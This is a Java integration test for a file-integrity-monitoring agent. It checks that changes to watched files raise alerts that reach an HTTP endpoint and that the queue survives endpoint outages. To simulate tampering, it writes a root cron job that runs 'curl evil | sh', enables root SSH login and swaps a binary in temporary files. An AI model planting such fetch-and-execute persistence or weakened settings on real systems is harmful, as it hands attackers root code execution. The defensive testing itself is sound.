package mig.agent.persist;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import mig.common.AgentEnv;
import mig.common.json.GoJson;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * Persistent modules with a real file system and a real HTTP endpoint that the test runs: a change
 * to a watched file becomes the original's fswatch alert, wrapped in the original's dispatch
 * record, POSTed to the endpoint; an endpoint that is down or failing loses no alert up to the
 * queue's bound, and the agent log says when the bound drops one.
 */
class PersistentModulesIT {
    @TempDir
    Path tmp;

    private final List<AutoCloseable> open = new ArrayList<>();
    private final List<String> received = new CopyOnWriteArrayList<>();

    @AfterEach
    void closeAll() throws Exception {
        for (AutoCloseable c : open) {
            c.close();
        }
    }

    private static final Dispatch.Origin ORIGIN = new Dispatch.Origin(
            "web1.example.net",
            new AgentEnv("systemd", "Debian 12", "linux", "amd64", false, "", null, "", null, null),
            Map.of("operator", "IT"));

    /** An HTTP endpoint that answers {@code failFirst} times 503, then 200, recording what it got. */
    private URI endpoint(int failFirst) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        AtomicInteger calls = new AtomicInteger();
        server.createContext("/events", ex -> {
            byte[] body = ex.getRequestBody().readAllBytes();
            boolean fail = calls.incrementAndGet() <= failFirst;
            if (!fail) {
                received.add(ex.getRequestHeaders().getFirst("Content-Type") + " "
                        + new String(body, StandardCharsets.UTF_8));
            }
            ex.sendResponseHeaders(fail ? 503 : 200, -1);
            ex.close();
        });
        server.start();
        open.add(() -> server.stop(0));
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/events");
    }

    @Test
    void aWatchedFileThatChangesRaisesTheOriginalsAlertAtTheHttpEndpoint() throws Exception {
        Path watched = Files.createDirectories(tmp.resolve("etc"));
        Path conf = Files.writeString(watched.resolve("sshd_config"), "PermitRootLogin no\n");
        Path bin = Files.createDirectories(tmp.resolve("bin"));
        Path ls = Files.writeString(bin.resolve("ls"), "ELF ls\n");
        Files.createDirectories(watched.resolve("cron.d"));
        PersistSettings settings = PersistSettings.parse(
                Map.of(
                        "fswatch.cfg", "[paths]\npath = recursive:" + watched + "\npath = " + ls + "\n",
                        "dispatch.cfg", "[dispatch]\nhttpurl = \"" + endpoint(2) + "\"\nchannelsize = 16\n"),
                "test");
        PersistentModules m = PersistentModules.start(
                settings,
                tmp.resolve("run"),
                () -> ORIGIN,
                Duration.ofSeconds(1),
                Duration.ofSeconds(1),
                Clock.systemUTC());
        open.add(m);
        await("fswatch is watching")
                .atMost(Duration.ofSeconds(60))
                .until(() -> m.fswatch().isPresent() && m.fswatch().get().awaitReady(Duration.ofMillis(100)));

        String before = sha256("PermitRootLogin no\n");
        Files.writeString(conf, "PermitRootLogin yes\n");
        // a file made in a sub-folder is learnt, and its later change is an alert too
        Path job = Files.writeString(watched.resolve("cron.d/job"), "* * * * * root true\n");
        FsWatch w = m.fswatch().orElseThrow();
        await("the new file is learnt").atMost(Duration.ofSeconds(30)).until(() -> w.knows(job));
        Files.writeString(job, "* * * * * root curl evil | sh\n");
        Files.writeString(ls, "ELF evil ls\n");

        await("three alerts reached the endpoint (after two 503 answers)")
                .atMost(Duration.ofSeconds(60))
                .until(() -> received.size() >= 3);
        JsonNode first = body(received.get(0));
        assertTrue(received.get(0).startsWith("application/json {"), received.get(0));
        assertEquals("web1.example.net", first.get("hostname").asText());
        assertEquals("linux", first.get("environment").get("os").asText());
        assertEquals("IT", first.get("tags").get("operator").asText());
        assertEquals("critical", first.get("event").get("severity").asText());
        List<String> alerts = new ArrayList<>();
        for (String r : received) {
            alerts.add(body(r).get("event").get("alert").asText());
        }
        assertTrue(
                alerts.contains(conf + " signature changed " + before + " -> " + sha256("PermitRootLogin yes\n")),
                alerts.toString());
        assertTrue(
                alerts.contains(ls + " signature changed " + sha256("ELF ls\n") + " -> " + sha256("ELF evil ls\n")),
                alerts.toString());
        assertTrue(
                alerts.contains(job + " signature changed " + sha256("* * * * * root true\n") + " -> "
                        + sha256("* * * * * root curl evil | sh\n")),
                alerts.toString());
        assertEquals(3, alerts.size(), "one alert per change, none for the new file: " + alerts);

        Files.delete(conf);
        await("the removal reached the endpoint")
                .atMost(Duration.ofSeconds(60))
                .until(() -> received.stream()
                        .anyMatch(
                                r -> body(r).get("event").get("alert").asText().equals("path " + conf + " removed")));
        assertEquals(
                "low",
                received.stream()
                        .map(PersistentModulesIT::body)
                        .filter(b -> b.get("event").get("alert").asText().endsWith(" removed"))
                        .findFirst()
                        .orElseThrow()
                        .get("event")
                        .get("severity")
                        .asText());
        await("the queue is empty")
                .atMost(Duration.ofSeconds(30))
                .until(() -> m.dispatch().orElseThrow().waiting() == 0);
    }

    @Test
    void anEndpointThatIsDownLosesNoAlertUpToTheBoundAndTheLogSaysWhenOneIsDropped() throws Exception {
        int deadPort;
        try (ServerSocket s = new ServerSocket(0)) {
            deadPort = s.getLocalPort();
        }
        ListAppender<ILoggingEvent> logs = new ListAppender<>();
        logs.start();
        Logger logger = (Logger) LoggerFactory.getLogger(Dispatch.class);
        logger.addAppender(logs);
        open.add(() -> logger.detachAppender(logs));
        Path queue = tmp.resolve("run/dispatch");

        DispatchConfig down = DispatchConfig.parse(
                "[dispatch]\nhttpurl = \"http://127.0.0.1:" + deadPort + "/events\"\nchannelsize = 5\n", "test");
        Dispatch d = Dispatch.start(down, queue, () -> ORIGIN, Clock.systemUTC());
        for (int i = 1; i <= 5; i++) {
            assertTrue(d.dispatch(FsWatch.alert("critical", "alert " + i)), "alert " + i + " is kept");
        }
        assertFalse(d.dispatch(FsWatch.alert("critical", "alert 6")), "the sixth is over the bound");
        assertFalse(d.dispatch(FsWatch.alert("critical", "alert 7")));
        assertTrue(
                logged(logs, "warning, dispatch module dropping messages (buffer full, 1 dropped since last warning)"),
                "the first drop is said at once");
        await("the endpoint was tried and the failure logged")
                .atMost(Duration.ofSeconds(60))
                .until(() -> logged(logs, "dispatch: http post: http://127.0.0.1:" + deadPort + "/events"));
        assertEquals(5, d.waiting());
        d.close();
        try (Stream<Path> s = Files.list(queue)) {
            assertEquals(5, s.filter(p -> p.toString().endsWith(".json")).count(), "the five wait on disk");
        }

        // the agent restarts and the endpoint is back (at a new address): the five arrive, in order
        DispatchConfig up = new DispatchConfig(endpoint(0), false, 5);
        Dispatch again = Dispatch.start(up, queue, () -> ORIGIN, Clock.systemUTC());
        open.add(again);
        await("the five queued alerts arrive").atMost(Duration.ofSeconds(60)).until(() -> received.size() >= 5);
        List<String> texts = received.stream()
                .map(r -> body(r).get("event").get("alert").asText())
                .toList();
        assertEquals(List.of("alert 1", "alert 2", "alert 3", "alert 4", "alert 5"), texts);
        await().atMost(Duration.ofSeconds(30)).until(() -> again.waiting() == 0);
        assertTrue(again.dispatch(FsWatch.alert("low", "alert 8")), "room again once sent");
    }

    @Test
    void outputMozdefWrapsTheRecordAsTheOriginalDid() {
        Dispatch d = dispatchFor(new DispatchConfig(URI.create("http://127.0.0.1:1/"), true, 4));
        JsonNode m = GoJson.tree(d.record(FsWatch.alert("low", "path /etc/x removed")));
        assertEquals("mig", m.get("category").asText());
        assertEquals("INFO", m.get("severity").asText());
        assertEquals("mig dispatch event", m.get("summary").asText());
        assertEquals("mig-dispatch", m.get("tags").get(0).asText());
        assertEquals("web1.example.net", m.get("details").get("hostname").asText());
        assertEquals(
                "path /etc/x removed",
                m.get("details").get("event").get("alert").asText());
    }

    private Dispatch dispatchFor(DispatchConfig c) {
        try {
            Dispatch d = Dispatch.start(c, tmp.resolve("q"), () -> ORIGIN, Clock.systemUTC());
            open.add(d);
            return d;
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static boolean logged(ListAppender<ILoggingEvent> logs, String text) {
        List<ILoggingEvent> copy;
        synchronized (logs) {
            copy = new ArrayList<>(logs.list);
        }
        return copy.stream().anyMatch(e -> e.getFormattedMessage().contains(text));
    }

    private static JsonNode body(String received) {
        return GoJson.tree(received.substring(received.indexOf(' ') + 1));
    }

    private static String sha256(String text) throws Exception {
        return HexFormat.of()
                .formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
    }
}
